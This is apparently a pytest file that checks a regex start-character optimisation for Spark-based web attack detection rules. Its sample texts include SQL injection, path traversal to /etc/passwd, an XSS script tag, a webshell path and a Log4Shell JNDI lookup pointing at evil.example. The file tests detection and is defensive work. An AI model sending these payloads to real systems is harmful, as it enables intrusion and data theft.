"""The start-character guard of combined_regex: right first characters, and the same matches in Spark."""

from __future__ import annotations

import re

from pyspark.sql import SparkSession, functions

from analytics import rules
from analytics.regex_guard import first_chars, guard

TEXTS = [
    "/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/search?q=x' or '1'='1",
    "/static/../../etc/passwd",
    "/..%c0%af..%c0%afwindows/win.ini",
    "/.git/config",
    "/backup.SQL",
    "/site.tar.gz",
    "/q?x=<ScRiPt>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "Mozilla/5.0 (compatible; Googlebot/2.1)",
    "CONNECT example.com:443 HTTP/1.1",
    "GET http://example.com/ HTTP/1.1",
    "/product/123\n/product/123?utm=1",
    "/wp-content/plugins/x/shell.php",
    "\u00e9t\u00e9/\u20ac/caf\u00e9",
    "",
]


def test_first_chars() -> None:
    assert first_chars([re.escape("/.env"), r"\bsleep\s*\(", r"[\s<]on\w+="]) == frozenset("/s \t\n\r\f\v<")
    assert first_chars([r"(?:a|b)?c", r"^(?=x)xy"]) == frozenset("abcx")
    assert first_chars([r"x*"]) is None  # can match the empty string: no guard
    assert first_chars([r".env"]) is None  # any character
    assert first_chars([r"[^/]+\.zip$"]) is None  # negated class
    assert guard([re.escape("/a.b")]) == r"(?=[\x{2F}])" and guard([r"\w+"]) == ""


def test_guarded_regexes_match_exactly_as_unguarded(spark: SparkSession) -> None:
    patterns = rules.load_patterns()
    df = spark.createDataFrame([(t,) for t in TEXTS], "t string")
    cols = []
    for name, sources in sorted(patterns.items()):
        guarded = rules.combined_regex(sources)
        plain = "(?i)(?:" + "|".join(f"(?:{p})" for p in sources) + ")"
        assert guarded != plain or first_chars(sources) is None, name
        cols += [
            functions.regexp_extract("t", guarded, 0).alias(f"{name}_g"),
            functions.regexp_extract("t", plain, 0).alias(name),
        ]
    row_matches = 0
    for row in df.select(*cols).collect():
        for name in patterns:
            assert row[f"{name}_g"] == row[name], (name, row)
            row_matches += row[name] != ""
    assert row_matches >= 12  # the texts do exercise the rules
